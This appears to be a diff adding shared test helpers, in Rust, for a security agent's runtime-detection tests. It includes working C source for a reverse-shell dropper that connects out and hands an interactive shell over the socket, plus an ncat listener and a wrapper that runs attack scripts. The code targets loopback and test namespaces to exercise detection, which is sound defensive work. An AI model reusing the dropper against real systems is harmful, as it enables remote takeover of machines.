@@ -1,0 +1,184 @@
+//! Pieces the runtime-detection tests share: an agent with its sensor on, watching a victim
+//! namespace for scans; alarms of a type waited for at the center; a small reverse-shell dropper
+//! compiled from C. Every attack here targets loopback or the test's own namespaces.
+
+use std::path::{Path, PathBuf};
+use std::time::Instant;
+
+use anyhow::{Result, anyhow, ensure};
+use serde_json::Value;
+
+use crate::lab::Netns;
+use crate::*;
+
+/// An enrolled agent with its runtime sensor at `sensor` (`auto` or `proc`), its firewall and
+/// scan watch in the victim namespace, no auth logs; running and online when this returns.
+pub async fn behaviour_agent(
+    env: &TestEnv,
+    center: &Center,
+    n: &Netns,
+    label: &str,
+    sensor: &'static str,
+) -> Result<Agent> {
+    let token = center.create_token(&["--name", label]).await?;
+    let mut agent = Agent::new(env, label);
+    agent.enroll(env, center, &token.secret).await?;
+    agent.sensor = sensor;
+    let toml = format!(
+        "state_dir = {:?}\n\n[authlog]\nsource = \"files\"\n\n[authlog.ssh]\nenabled = false\n\n[authlog.ftp]\nenabled = false\n\n[authlog.mysql]\nenabled = false\n\n[behaviour]\nnetns = {:?}\n\n{}",
+        agent.state_dir.display().to_string(),
+        n.victim,
+        n.firewall_toml(&[22])
+    );
+    std::fs::write(agent.dir.join("agent.toml"), toml)?;
+    crate::lab::run_lab_agent(env, &mut agent)?;
+    center
+        .api()
+        .wait_status(&agent.server_id, "online", None, secs(30))
+        .await?;
+    // The sensor reports its tier in the heartbeat once it runs.
+    wait_until("the sensor's first report", secs(30), millis(200), || async {
+        let s = center.api().server_detail(&agent.server_id).await?;
+        let tier = server_of(&s)["heartbeat"]["sensor"]["tier"].as_str().unwrap_or("");
+        ensure!(tier == sensor || (sensor == "auto" && (tier == "bpf" || tier == "lsm")), "tier {tier:?}");
+        Ok(())
+    })
+    .await?;
+    Ok(agent)
+}
+
+/// The first alarm of `alarm_type` on `server` that `pick` accepts, waiting up to 90 s (cron
+/// runs its jobs on the minute). Returns the alarm's detail (with evidence).
+pub async fn wait_behaviour_alarm(
+    api: &Api,
+    server: &str,
+    alarm_type: &str,
+    what: &str,
+    pick: impl Fn(&Value) -> bool,
+) -> Result<Value> {
+    wait_until(
+        &format!("a {alarm_type} alarm for {what}"),
+        secs(90),
+        millis(200),
+        || async {
+            let r = api
+                .get(&format!("/api/v1/alarms?type={alarm_type}&server={server}"))
+                .await?
+                .expect(200)?;
+            r.json["items"]
+                .as_array()
+                .into_iter()
+                .flatten()
+                .find(|a| pick(a))
+                .cloned()
+                .ok_or_else(|| anyhow!("none yet: {}", truncate(&r.text, 600)))
+        },
+    )
+    .await
+}
+
+/// All alarms of a server, as the API lists them.
+pub async fn alarms_of(api: &Api, server: &str) -> Result<Vec<Value>> {
+    let r = api
+        .get(&format!("/api/v1/alarms?server={server}&per_page=200"))
+        .await?
+        .expect(200)?;
+    Ok(r.json["items"].as_array().cloned().unwrap_or_default())
+}
+
+/// The executables of an alarm's process chain, nearest first.
+pub fn chain_exes(alarm: &Value) -> Vec<String> {
+    alarm["evidence"]["processes"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .map(|p| p["exe"].as_str().unwrap_or("").to_string())
+        .collect()
+}
+
+/// Seconds from `start` to the agent's conclusion (the alarm's first_seen), which the issue
+/// bounds at 5 s; the alarm's arrival at the center is not part of it.
+pub fn detection_secs(alarm: &Value, start_unix: i64) -> i64 {
+    alarm["first_seen"].as_i64().unwrap_or(i64::MAX) - start_unix
+}
+
+pub fn unix_now() -> i64 {
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_secs() as i64)
+        .unwrap_or(0)
+}
+
+/// A reverse-shell dropper: connects to ADDR PORT, then runs `/bin/sh -i` on the connection
+/// in a child and waits for it, as droppers do (so the dropper, not the shell, is the program
+/// to isolate). Compiled with the system C compiler into `dir`.
+pub async fn build_dropper(dir: &Path) -> Result<PathBuf> {
+    let src = dir.join("dropper.c");
+    std::fs::write(
+        &src,
+        r#"#include <arpa/inet.h>
+#include <stdlib.h>
+#include <sys/socket.h>
+#include <sys/wait.h>
+#include <unistd.h>
+int main(int argc, char **argv) {
+    if (argc < 3) return 2;
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    struct sockaddr_in a = {0};
+    a.sin_family = AF_INET;
+    a.sin_port = htons(atoi(argv[2]));
+    inet_pton(AF_INET, argv[1], &a.sin_addr);
+    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 3;
+    pid_t p = fork();
+    if (p == 0) {
+        dup2(s, 0); dup2(s, 1); dup2(s, 2);
+        execl("/bin/sh", "sh", "-i", (char *)0);
+        return 4;
+    }
+    int st;
+    waitpid(p, &st, 0);
+    return 0;
+}
+"#,
+    )?;
+    let bin = dir.join("dropper");
+    let out = run_cmd(
+        Path::new("cc"),
+        &["-O2", "-o", &bin.display().to_string(), &src.display().to_string()].map(String::from),
+        None,
+    )
+    .await?;
+    ensure!(out.success(), "compiling the dropper: {out}");
+    Ok(bin)
+}
+
+/// A TCP listener on loopback (`ncat -l ADDR PORT`) that sends `script` once connected and keeps
+/// the connection `hold_secs`; killed when dropped.
+pub fn listener(env: &TestEnv, dir: &Path, addr: &str, port: u16, script: &str, hold_secs: u32) -> Result<Proc> {
+    let mut cmd = command("sh");
+    cmd.arg("-c").arg(format!(
+        "(sleep 1; printf '{script}\\n'; sleep {hold_secs}) | timeout {} ncat -l {addr} {port}",
+        hold_secs + 30
+    ));
+    Proc::spawn(env, &format!("listener[{port}]"), cmd, dir, &format!("listener-{port}"))
+}
+
+/// Runs `script` with `sh -c` in a new session, in the background; killed when dropped.
+pub fn attack(env: &TestEnv, dir: &Path, label: &str, script: &str) -> Result<(Proc, i64)> {
+    let mut cmd = command("setsid");
+    cmd.args(["sh", "-c", script]);
+    let start = unix_now();
+    Ok((Proc::spawn(env, label, cmd, dir, label)?, start))
+}
+
+/// Waits until `f` holds or 30 s pass, for conditions on the host (a process gone, a file back).
+pub async fn host_until(what: &str, f: impl Fn() -> bool) -> Result<()> {
+    let start = Instant::now();
+    while start.elapsed() < secs(30) {
+        if f() {
+            return Ok(());
+        }
+        tokio::time::sleep(millis(100)).await;
+    }
+    Err(anyhow!("timed out waiting for {what}"))
+}
